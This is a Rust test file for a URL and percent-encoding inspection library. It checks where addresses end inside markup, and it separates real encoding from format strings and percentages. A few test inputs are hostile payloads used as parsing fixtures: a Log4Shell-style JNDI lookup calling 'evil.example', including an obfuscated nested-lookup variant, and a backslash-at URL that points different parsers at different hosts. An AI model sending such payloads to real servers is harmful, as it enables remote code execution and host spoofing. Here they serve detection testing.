//! Explain: where an address in a text ends, and texts whose percent signs encode nothing.

use triplet_inspect::{Kind, explain};

#[test]
fn what_is_around_an_address_is_not_of_it() {
    for (text, expected) in [
        ("[url=https://a.example/%C3%A9?x=1]Text[/url]", "https://a.example/%C3%A9?x=1"),
        ("[url]https://a.example/x?y=1[/url]", "https://a.example/x?y=1"),
        ("[img]https://a.example/i%20m.png[/img]", "https://a.example/i%20m.png"),
        ("[Text|https://a.example/%C3%A9?x=1]", "https://a.example/%C3%A9?x=1"),
        ("[Text|https://a.example/?x=1|title]", "https://a.example/?x=1"),
        ("<https://a.example/%C3%A9?x=1|Text> more", "https://a.example/%C3%A9?x=1"),
        ("{{cite web|url=https://a.example/x?y=1|title=T}}", "https://a.example/x?y=1"),
        ("{{cite|title=T |url = https://a.example/x?y=1}}", "https://a.example/x?y=1"),
        ("“https://a.example/x?y=1”", "https://a.example/x?y=1"),
        ("„https://a.example/x?y=1“", "https://a.example/x?y=1"),
        ("«https://a.example/x?y=1»", "https://a.example/x?y=1"),
        ("‘https://a.example/x?y=1’", "https://a.example/x?y=1"),
        ("https://a.example/x?y=1… and", "https://a.example/x?y=1"),
        ("~~https://a.example/x?y=1~~", "https://a.example/x?y=1"),
        ("at https://a.example/x.js?y=1:10:5", "https://a.example/x.js?y=1"),
        ("f (https://a.example/x.js:10:5)", "https://a.example/x.js"),
        ("[[https://a.example/%C3%A9][Text]]", "https://a.example/%C3%A9"),
        ("[a](https://a.example/b_(c))", "https://a.example/b_(c)"),
        // Of the address itself.
        ("see https://a.example/?a[]=1&b[x]=2 now", "https://a.example/?a[]=1&b[x]=2"),
        ("see https://a.example/?a=1|2 now", "https://a.example/?a=1|2"),
        ("see http://[2001:db8::1]:80/ now", "http://[2001:db8::1]:80/"),
        ("see https://a.example/~me/ now", "https://a.example/~me/"),
        ("see https://a.example:8080/a:1 now", "https://a.example:8080/a:1"),
        ("see https://a.example/it’s now", "https://a.example/it’s"),
        ("GET /x?a=1]b HTTP/1.1", "/x?a=1]b"),
    ] {
        let explanation = explain(text);
        assert_eq!(explanation.root().kind, Kind::Text, "{text}");
        let found: Vec<_> =
            explanation.root().children.iter().map(|child| &*child.written).collect();
        assert_eq!(found, [expected], "{text}");
    }
}

#[cfg(feature = "all-notations")]
#[test]
fn formats_are_plain_text_first() {
    for text in [
        "%5d %s",
        "%10s",
        "%05d",
        "%02d:%02d",
        "echo %CD%\\%DATE:~0,4%",
        "%DB_HOST%",
        "LIKE '%20%'",
        "rgb(10%20%30%)",
        "printf(\"%ad %20d %2f\")",
        "pretty=%h%x09%an%x09%ad",
        "@echo off\nset X=%~dp0%1\necho %DATE% %CD%",
        "%d items, %20s",
        "50%de Rabatt",
        // Formats, also after a word, with `%%`, and with the number of an argument.
        "IMG_%d%02d.jpg",
        "ffmpeg -i in.mp4 frame%03d.png",
        "/frames/img_%03d.png",
        "awk '{printf \"%d%%20\\n\",$1}'",
        "%1$s %2$d %%20",
        "i = printf(\"vrai : %20%20%20%d|\", 10);",
        "git log --format=%ad%ae%b",
        // The remainder of a division, percentages and units, a lone octet between words.
        "if i%20 == 0: print(i)",
        "a = b%c5",
        "kernel: CPU0: 25% idle 75%user 20%41",
        "80%AB blood",
        "the %af thing",
    ] {
        let explanation = explain(text);
        assert_eq!(explanation.root().kind, Kind::Plain, "{text}");
        assert!(explanation.root().children.iter().all(|child| child.is_likely), "{text}");
    }
    for text in [
        "%2f",
        "a%20b",
        "caf%C3%A9 %d",
        "100%25",
        "50%20off",
        "%C3%A9",
        "%2Fa%5d",
        "file%00.jpg",
        "2%%20Reduced%20Fat%20Milk",
        "caf%E9 au lait",
        "%E0 la plage",
        "50%20off today",
        "20%B0C today",
        "name = caf%E9",
        "Progress 12%0A done",
    ] {
        assert_eq!(explain(text).root().kind, Kind::Encoded, "{text}");
    }
}

#[cfg(feature = "all-notations")]
#[test]
fn what_is_encoded_beside_an_address() {
    for (text, expected) in [
        (
            "GET /s%C3%B6k/default.aspx q=%C3%A5r&p=%u4F60 443 - Mozilla/5.0+(NT) https://ref.example/ 200",
            &["/s%C3%B6k/default.aspx", "q=%C3%A5r&p=%u4F60", "https://ref.example/"][..],
        ),
        (
            "GET\td1.cloudfront.net\t/s%25C3%25B6k\t200\thttps://r.example/\tMozilla/5.0%2520(NT)\tq=caf%25C3%25A9\t-",
            &["/s%25C3%25B6k", "https://r.example/", "Mozilla/5.0%2520(NT)", "q=caf%25C3%25A9"],
        ),
        (
            "curl 'https://a.example/' -H 'cookie: sid=a%3Ab; lang=de' --data-raw 'n=J%C3%BC+M&m=a%26b'",
            &["https://a.example/", "sid=a%3Ab", "n=J%C3%BC+M&m=a%26b"],
        ),
        ("a%20b\nhttps://a.example/", &["a%20b", "https://a.example/"]),
        (
            "{\"url\": \"https://a.example/\", \"value\": \"%E4%BD%A0\"}",
            &["https://a.example/", "%E4%BD%A0"],
        ),
        // Nothing else is.
        (
            "see https://a.example/ is 50% of 20%20 or 100%de and %5d %s %CD%",
            &["https://a.example/", "20%20"],
        ),
        ("echo %DATE% %~dp0%1 https://a.example/ LIKE '%abc%'", &["https://a.example/"]),
        ("index=web path=\"/a%20b/*\" | where like(uri,\"%admin%\")", &["/a%20b/*"]),
        ("GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1", &["/?x=${jndi:ldap://evil.example/a}"]),
    ] {
        let explanation = explain(text);
        assert_eq!(explanation.root().kind, Kind::Text, "{text}");
        let found: Vec<_> =
            explanation.root().children.iter().map(|child| &*child.written).collect();
        assert_eq!(found, expected, "{text}");
        let readable = explanation.readable().unwrap();
        for child in explanation.root().children.iter().filter(|child| child.kind != Kind::Url) {
            if matches!(child.kind, Kind::Form | Kind::Encoded) {
                assert!(readable.contains(&child.written), "{readable}");
            }
        }
    }
    for text in
        ["/?x=${jndi:ldap://evil.example/a}", "/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D"]
    {
        let explanation = explain(text);
        assert_eq!(explanation.root().kind, Kind::Reference, "{text}");
        let value = explanation.root().value("x").expect(text);
        assert!(value.read().starts_with("${") && value.read().ends_with('}'), "{text}");
    }
}

#[cfg(feature = "all-notations")]
#[test]
fn what_is_never_percent_encoded_and_pairs_of_other_schemes() {
    for text in [
        "WIFI:T:WPA;S:Caf\\;e %20;P:p%40ss;;",
        "Driver={ODBC Driver 17};Server=tcp:x.example,1433;Uid=u;Pwd={p%41};Encrypt=yes;",
        "DSN=x;UID=u;PWD=a%20b",
    ] {
        assert_eq!(explain(text).root().kind, Kind::Plain, "{text}");
    }
    assert_eq!(explain("a%20b;c=d%20e").root().kind, Kind::Encoded);
    for (text, name, value) in [
        (
            "intent://scan/#Intent;scheme=zxing;S.browser_fallback_url=https%3A%2F%2Fa.example%2F%3Fq%3D1;end",
            "S.browser_fallback_url",
            "https://a.example/?q=1",
        ),
        ("xmpp:a@b.example?message;subject=Hi%20du;body=x%26y", "body", "x&y"),
    ] {
        let explanation = explain(text);
        let value_read = explanation.root().value(name).map(|value| value.read().to_owned());
        assert_eq!(value_read.as_deref(), Some(value), "{text}");
    }
    for text in ["192.168.0.1:8080/x?a=%26b", "[2001:db8::1]:80/x?a=%26b", "localhost:80/x?a=%26b"]
    {
        let root = explain(text);
        let root = root.root();
        assert_eq!(root.detail.as_deref(), Some("without a scheme"), "{text}");
        assert_eq!(root.value("a").map(|value| value.read()), Some("&b"), "{text}");
        assert!(root.remedies.is_empty(), "{text}: {:?}", root.remedies);
        let is_scheme = |found: &triplet_inspect::Found| found.rule.name() == "invalid-scheme";
        assert!(!root.findings.iter().any(is_scheme), "{text}");
    }
    let text = "LDAP://a.example/dc=b?cn,mail??(cn=a%5C2a*%3Fx)?!bindname=c%2Cd";
    let explanation = explain(text);
    let parts = explanation.root().children.iter().filter(|part| part.kind == Kind::Query);
    let parts: Vec<_> = parts.map(|part| (part.detail.as_deref(), part.read())).collect();
    let expected = [
        (Some("attributes"), "cn,mail"),
        (Some("filter"), "(cn=a\\2a*?x)"),
        (Some("extensions"), "!bindname=c,d"),
    ];
    assert_eq!(parts, expected);
    let explanation = explain("https://good.example\\@evil.example/");
    assert!(explanation.root().remedies.is_empty());
    let detail = explanation.root().detail.as_deref();
    assert_eq!(
        detail,
        Some("for a browser with the host good.example, for others with evil.example")
    );
    for (text, is_said) in [
        ("https://a.example/search?q=foo bar", true),
        ("https://a.example/a b c", true),
        ("https://a.example/a%20b", false),
        ("see https://a.example/a b c", false),
    ] {
        assert_eq!(explain(text).root().detail.is_some(), is_said, "{text}");
    }
}
